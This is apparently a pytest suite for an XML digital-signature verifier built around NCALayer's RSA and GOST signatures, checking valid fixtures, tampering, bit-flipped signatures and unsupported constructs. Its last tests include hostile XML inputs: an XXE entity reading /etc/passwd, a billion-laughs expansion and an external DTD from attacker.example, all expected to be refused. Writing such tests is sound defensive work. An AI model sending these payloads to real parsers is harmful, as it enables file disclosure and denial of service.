"""Enveloped XMLDSig as NCALayer makes it: fixtures at pinned times, tampering, XXE (R-7.1, R-12.1)."""

from __future__ import annotations

import base64
import re
from datetime import datetime

import pytest

from authsvc.pki.path import PathValidator
from authsvc.pki.xmldsig import XmlParseError, verify_xml
from tests.pki.nca_material import AT_2015, AT_DANIKARIK, AT_VALID_SIGN_2004, RSA_CA, nca_validator, read

DK = "danikarik-ncanode-go"
DANIKARIK_XML = [
    ("organization", "active", "AUTH_RSA256_d682726b55b3e62600ea8fe1c74e75fc96f47790.xml", "rsa-sha256"),
    ("organization", "active", "GOSTKNCA_13a3741b52d7bf860aab199b56fad1f4652e357b.xml", "gost34310-gost34311"),
    ("organization", "revoked", "AUTH_RSA256_7d6d313ac5bf7367a2a69f28607a8deb80dd3ba9.xml", "rsa-sha256"),
    ("organization", "revoked", "GOSTKNCA_c372b7809440fcb681051bbc89ea2f089fd2fe16.xml", "gost34310-gost34311"),
    ("personal", "active", "AUTH_RSA256_b2c70a9ff7a5dc59de0ccc3c0ddde3437cc1f12d.xml", "rsa-sha256"),
    ("personal", "active", "RSA256_11c707bd54cbfcccb3815e39c4eb57b1dc7dfea9.xml", "rsa-sha256"),
    ("personal", "revoked", "AUTH_RSA256_60d5a0346dd52fb5f3b9148e6cfbcd6cf323d119.xml", "rsa-sha256"),
    ("personal", "revoked", "RSA256_346a7e57c2995259140b6fc375b6ff3bba7e852f.xml", "rsa-sha256"),
]
TWO = ("ncanode", "xml", "XML_SIGNED_VALID_STRING_TWO_SIGNERS.xml")


async def test_single_rsa_signature_valid_at_pinned_time() -> None:
    result = await verify_xml(
        read("ncanode", "xml", "XML_SIGNED_VALID_STRING.xml"), validator=nca_validator(), at=AT_VALID_SIGN_2004
    )
    assert result.valid
    (sig,) = result.signatures
    assert sig.signer is not None and sig.signer.serial_number == "4279390A141F5353A62947B61ED65E81741467D1"
    assert sig.signature_method == "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"


@pytest.mark.parametrize(("folder", "state", "name", "method"), DANIKARIK_XML, ids=[d[2][:20] for d in DANIKARIK_XML])
async def test_danikarik_xml(folder: str, state: str, name: str, method: str) -> None:
    result = await verify_xml(read(DK, folder, state, name), validator=nca_validator(), at=AT_DANIKARIK)
    assert result.valid, [(s.reasons, s.detail) for s in result.signatures]
    assert result.signatures[0].signature_method is not None
    assert result.signatures[0].signature_method.endswith(method)


async def test_two_sequential_signatures_rsa_then_gost_2015() -> None:
    """Verified last first: the GOST-2015 signature covers the RSA one; then the RSA one alone."""
    late = await verify_xml(read(*TWO), validator=nca_validator(), at=AT_2015)
    early = await verify_xml(read(*TWO), validator=nca_validator(), at=AT_VALID_SIGN_2004)
    assert [
        s.signature_method.rsplit(":", 1)[-1].rsplit("#", 1)[-1] for s in late.signatures if s.signature_method
    ] == [
        "rsa-sha256",
        "gostr34102015-gostr34112015-512",
    ]
    assert all(s.digest_valid and s.signature_valid for s in late.signatures + early.signatures)
    assert [s.reasons for s in late.signatures] == [["expired"], []]
    assert [s.reasons for s in early.signatures] == [[], ["not_yet_valid"]]
    assert late.signatures[1].signer is not None and late.signatures[1].signer.subject.iin == "123456789012"


async def test_tampered_text_breaks_the_digest() -> None:
    doc = read("ncanode", "xml", "XML_SIGNED_VALID_STRING.xml").replace(b"<b>test</b>", b"<b>tesT</b>")
    (sig,) = (await verify_xml(doc, validator=nca_validator(), at=AT_VALID_SIGN_2004)).signatures
    assert not sig.valid and sig.reasons == ["digest_mismatch"] and sig.signature_valid


async def test_removing_the_first_signature_breaks_the_second() -> None:
    """The later GOST signature covers the earlier one, so dropping the earlier one is detected."""
    doc = read(*TWO).decode()
    first_end = doc.index("</ds:Signature>") + len("</ds:Signature>")
    stripped = doc[: doc.index("<ds:Signature")] + doc[first_end:]
    result = await verify_xml(stripped, validator=nca_validator(), at=AT_2015)
    assert len(result.signatures) == 1 and "digest_mismatch" in result.signatures[0].reasons


def _flip_signature_value(doc: bytes) -> bytes:
    text = doc.decode()
    match = re.search(r"<ds:SignatureValue>(.*?)</ds:SignatureValue>", text, re.DOTALL)
    assert match is not None
    raw = bytearray(base64.b64decode("".join(match.group(1).replace("&#13;", "").split())))
    raw[len(raw) // 2] ^= 0x01
    return (text[: match.start(1)] + base64.b64encode(bytes(raw)).decode() + text[match.end(1) :]).encode()


@pytest.mark.parametrize(
    ("path", "at"),
    [
        (("ncanode", "xml", "XML_SIGNED_VALID_STRING.xml"), AT_VALID_SIGN_2004),
        ((DK, "organization", "active", "GOSTKNCA_13a3741b52d7bf860aab199b56fad1f4652e357b.xml"), AT_DANIKARIK),
    ],
    ids=["rsa", "gost2004"],
)
async def test_bit_flipped_signature_value(path: tuple[str, ...], at: datetime) -> None:
    doc = _flip_signature_value(read(*path))
    (sig,) = (await verify_xml(doc, validator=nca_validator(), at=at)).signatures
    assert sig.digest_valid and not sig.signature_valid and sig.reasons == ["bad_signature"]


async def test_wrong_anchor_gives_no_path() -> None:
    gost_only = PathValidator([read("ncanode", "ca", "nca_gost2015_test.cer")])
    doc = read("ncanode", "xml", "XML_SIGNED_VALID_STRING.xml")
    (sig,) = (await verify_xml(doc, validator=gost_only, at=AT_VALID_SIGN_2004)).signatures
    assert sig.signature_valid and sig.reasons == ["no_path"]
    assert (await verify_xml(doc, validator=PathValidator([read(*RSA_CA)]), at=AT_VALID_SIGN_2004)).valid


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>"""
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;&d;&d;</l>"""
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>'


@pytest.mark.parametrize(
    "doc", [XXE, LAUGHS, EXTERNAL_DTD, b"<a>", b"", b"\xff\xfe<"], ids=["xxe", "laughs", "dtd", "open", "empty", "bom"]
)
async def test_hostile_or_broken_xml_is_refused_by_name(doc: bytes) -> None:
    with pytest.raises(XmlParseError) as caught:
        await verify_xml(doc, validator=nca_validator(), at=AT_2015)
    assert caught.value.code == "bad_xml"


async def test_unsigned_document_has_no_signatures() -> None:
    result = await verify_xml("<a><b>x</b></a>", validator=nca_validator(), at=AT_2015)
    assert not result.valid and result.reasons == ["no_signatures"]


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        ('URI=""', 'URI="#x"', "unsupported_reference"),
        (
            "http://www.w3.org/2000/09/xmldsig#enveloped-signature",
            "http://www.w3.org/TR/1999/REC-xslt-19991116",
            "unsupported_transform",
        ),
        ("xmldsig-more#rsa-sha256", "xmldsig-more#rsa-md5", "unsupported_algorithm"),
    ],
    ids=["reference", "xslt", "md5"],
)
async def test_constructs_outside_ncalayers_profile_are_refused(old: str, new: str, reason: str) -> None:
    doc = read("ncanode", "xml", "XML_SIGNED_VALID_STRING.xml").decode().replace(old, new, 1)
    (sig,) = (await verify_xml(doc, validator=nca_validator(), at=AT_VALID_SIGN_2004)).signatures
    assert not sig.valid and sig.reasons == [reason]
